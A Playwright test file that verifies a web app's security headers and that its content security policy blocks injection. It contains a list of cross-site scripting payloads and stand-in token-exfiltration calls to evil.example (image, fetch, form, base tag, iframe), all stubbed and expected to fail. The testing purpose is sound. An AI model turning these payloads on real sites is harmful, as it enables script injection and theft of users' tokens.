import { expect, type Page } from '@playwright/test';
import { headersFile, securityHeaders } from '../../../scripts/build/security-headers.mjs';
import { onTheDemoAlone, test } from '../support/test.ts';

/** Each attack sets `window.harm` if it succeeds. */
const attacks: Record<string, () => unknown> = {
  'markup from text': () => {
    document.body.innerHTML = '<img src="x" onerror="window.harm = true">';
  },
  'a script of text': () => {
    const script = document.createElement('script');
    script.textContent = 'window.harm = true';
    document.body.append(script);
  },
  'a script from elsewhere': () => {
    const script = document.createElement('script');
    script.src = 'https://evil.example/harm.js';
    document.body.append(script);
  },
  // Use a timeout, because code that Playwright evaluates directly is exempt from the policy.
  'text as code': () => setTimeout(() => Reflect.construct(Function, ['window.harm = true'])()),
  'an attribute that is code': () => {
    document.body.setAttribute('onclick', 'window.harm = true');
    document.body.click();
  },
  'an address that is code': () => {
    const link = document.createElement('a');
    link.href = 'javascript:void (window.harm = true)';
    document.body.append(link);
    link.click();
  },
  'a worker of text': () => {
    const url = URL.createObjectURL(new Blob(['postMessage(1)']));
    new Worker(url).addEventListener('message', () => Object.assign(window, { harm: true }));
  },
  'another policy': () => {
    const { trustedTypes } = window as unknown as {
      trustedTypes: { createPolicy: (name: string, rules: object) => void };
    };
    trustedTypes.createPolicy('evil', { createHTML: (html: string) => html });
    Object.assign(window, { harm: true });
  },
  'a picture that carries a token away': () => {
    const image = new Image();
    image.addEventListener('load', () => Object.assign(window, { harm: true }));
    image.src = 'https://evil.example/token';
  },
  'a call that carries a token away': () =>
    fetch('https://evil.example/token').then(() => Object.assign(window, { harm: true })),
  'a form that sends elsewhere': () => {
    const form = document.createElement('form');
    form.action = 'https://evil.example/token';
    document.body.append(form);
    form.submit();
  },
  'another base for all addresses': () => {
    const base = document.createElement('base');
    base.href = 'https://evil.example/';
    document.head.append(base);
    Object.assign(window, { harm: document.baseURI === base.href });
  },
  'a page in a frame': () => {
    const frame = document.createElement('iframe');
    frame.src = 'https://evil.example/';
    document.body.append(frame);
  },
};

async function openLogin(page: Page): Promise<void> {
  await page.route('https://evil.example/**', (route) =>
    route.fulfill({
      contentType: route.request().resourceType() === 'image' ? 'image/svg+xml' : 'text/javascript',
      headers: { 'access-control-allow-origin': '*' },
      body:
        route.request().resourceType() === 'image'
          ? '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>'
          : 'window.harm = true',
    }),
  );
  await page.goto('/login');
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Login');
}

const isHarmed = (page: Page) => page.evaluate(() => Reflect.get(window, 'harm') === true);

test('all responses have the security headers, and the build writes them to a file for other hosts', async ({
  request,
  backend,
  apiPort,
}) => {
  const settings = backend === 'demo' ? {} : { VITE_API_URL: `http://localhost:${apiPort}` };
  for (const path of ['/', '/doctors/some-id', '/boot.js', '/assets/gone.js', '/api/none']) {
    const headers = new Map(Object.entries((await request.get(path)).headers()));
    for (const [name, value] of Object.entries(securityHeaders(settings))) {
      expect(headers.get(name.toLowerCase()), `${name} of ${path}`).toBe(value);
    }
  }
  expect(await (await request.get('/_headers')).text()).toBe(headersFile(settings, '/'));
});

test(
  'the browser blocks attempted attacks on a page and reports them as violations',
  onTheDemoAlone,
  async ({ page, violations }) => {
    await openLogin(page);
    for (const [name, attack] of Object.entries(attacks)) {
      await test.step(name, async () => {
        await page.evaluate(attack).catch(() => {});
        await expect.poll(() => violations).not.toEqual([]);
        expect(await isHarmed(page)).toBe(false);
        expect(page.url()).toMatch(/\/login$/);
        violations.length = 0;
      });
    }
  },
);

async function openWith(page: Page, markup: string): Promise<void> {
  await page.route('**/login', async (route) => {
    const response = await route.fetch();
    const html = (await response.text()).replace('</body>', `${markup}</body>`);
    await route.fulfill({ response, body: html });
  });
  await openLogin(page);
}

test('a script in injected HTML does not run', async ({ page, violations }) => {
  await openWith(page, '<script>window.harm = true</script>');
  await expect.poll(() => violations).not.toEqual([]);
  expect(await isHarmed(page)).toBe(false);
  violations.length = 0;
});

test('inline JSON data on a page is readable and causes no violation report', async ({ page }) => {
  await openWith(
    page,
    ['application/json', 'application/ld+json']
      .map((type) => `<script type="${type}">{"name":"CareSetu"}</script>`)
      .join(''),
  );
  const data = page.locator('script[type$="json"]');
  expect(await data.allTextContents()).toEqual(['{"name":"CareSetu"}', '{"name":"CareSetu"}']);
});

test('no other site can frame the app', onTheDemoAlone, async ({ page, baseURL, violations }) => {
  await page.setContent(`<iframe src="${baseURL}/login"></iframe>`);
  await expect.poll(() => violations).not.toEqual([]);
  await expect(page.frameLocator('iframe').getByText('Login')).toHaveCount(0);
  violations.length = 0;
});
